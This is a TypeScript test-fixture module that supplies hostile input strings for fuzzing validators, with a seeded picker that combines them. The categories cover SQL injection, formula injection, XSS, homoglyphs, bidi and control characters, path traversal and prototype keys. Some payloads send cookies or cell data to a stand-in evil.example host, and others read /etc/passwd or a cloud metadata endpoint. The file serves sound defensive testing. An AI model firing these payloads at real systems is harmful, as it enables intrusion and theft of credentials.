import type { SeededRandom } from './seeded-random.js'

/**
 * Strings an attacker puts in names, emails, domains and free text, by what they try. Each is a valid JS string; the
 * invalid byte sequences (which no JS string holds) are in {@link hostileByteSequences}.
 */
export const hostileStrings = {
  sql: [
    "Robert'); DROP TABLE applications;--",
    "' OR '1'='1",
    '1; SELECT pg_sleep(10)--',
    "x' UNION SELECT password_hash FROM users--",
    '$$; DELETE FROM users; $$',
    "\\x27; COPY users TO PROGRAM 'id'--",
  ],
  formula: [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '=HYPERLINK("http://evil.example/?x="&A1)',
    '\t=1+1',
    '\r=1+1',
  ],
  html: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(document.cookie)>',
    "javascript:alert('x')",
    '<svg/onload=fetch(`//evil.example/${document.cookie}`)>',
    '{{constructor.constructor("alert(1)")()}}',
    '${7*7}',
  ],
  confusable: [
    'Jоrdan Millеr', // Cyrillic о and е
    'аpple.com', // Cyrillic а
    'pаypal.com',
    'gооgle.com',
    'ｍｉｃｒｏｓｏｆｔ.com', // fullwidth
    'Ꭺlex Kim', // Cherokee A
    'xn--80ak6aa92e.com',
  ],
  bidi: [
    'Alex\u202eKim\u202c',
    'invoice\u202egpj.exe',
    '\u2067Min Park\u2069',
    'gmail.com\u200f',
    'Da\u200bniel\u200dCho',
    '\ufeffJordan',
    'name\u2028with\u2029separators',
  ],
  control: [
    '\u0000',
    'Kevin\u0000Lee',
    'a\u0001b\u001fc\u007f',
    '\r\n\r\nHTTP/1.1 200 OK',
    'line\nbreak',
    '\u0085next line',
  ],
  surrogate: ['\ud800', 'lone \udfff low', '\udc00\ud800', '😀\ud83d'],
  path: [
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2f',
    'file:///etc/passwd',
    'http://169.254.169.254/latest/meta-data/',
  ],
  format: [
    '%s%s%s%n',
    '%x%x%x',
    '{0}{1}',
    '\\u0000',
    'NaN',
    'Infinity',
    '-0',
    '1e309',
    'null',
    'undefined',
    'true',
    '[]',
    '{}',
  ],
  prototype: ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__'],
  size: ['', ' ', 'a'.repeat(10_001), '𝕏'.repeat(5_000), 'é'.repeat(3), 'e\u0301'.repeat(3)],
} as const

export type HostileStringKind = keyof typeof hostileStrings

export const hostileStringKinds = Object.keys(hostileStrings) as HostileStringKind[]

/** Byte sequences that are not UTF-8 (overlong forms, lone continuation bytes, surrogates, truncated sequences). */
export const hostileByteSequences: readonly (readonly number[])[] = [
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0x80],
  [0xbf, 0xbf],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xe2, 0x82],
  [0xff, 0xfe],
  [0xfe],
]

/** The UTF-8, UTF-16 LE and UTF-16 BE byte order marks. */
export const byteOrderMarks: readonly (readonly number[])[] = [
  [0xef, 0xbb, 0xbf],
  [0xff, 0xfe],
  [0xfe, 0xff],
]

/** One hostile string, sometimes two kinds joined or wrapped in ordinary text. */
export function hostileString(random: SeededRandom): string {
  const kind = random.pick(hostileStringKinds)
  const chosen: string = random.pick(hostileStrings[kind])
  switch (random.int(4)) {
    case 0:
      return `Jordan ${chosen}`
    case 1:
      return `${chosen}${random.pick(hostileStrings[random.pick(hostileStringKinds)])}`
    default:
      return chosen
  }
}
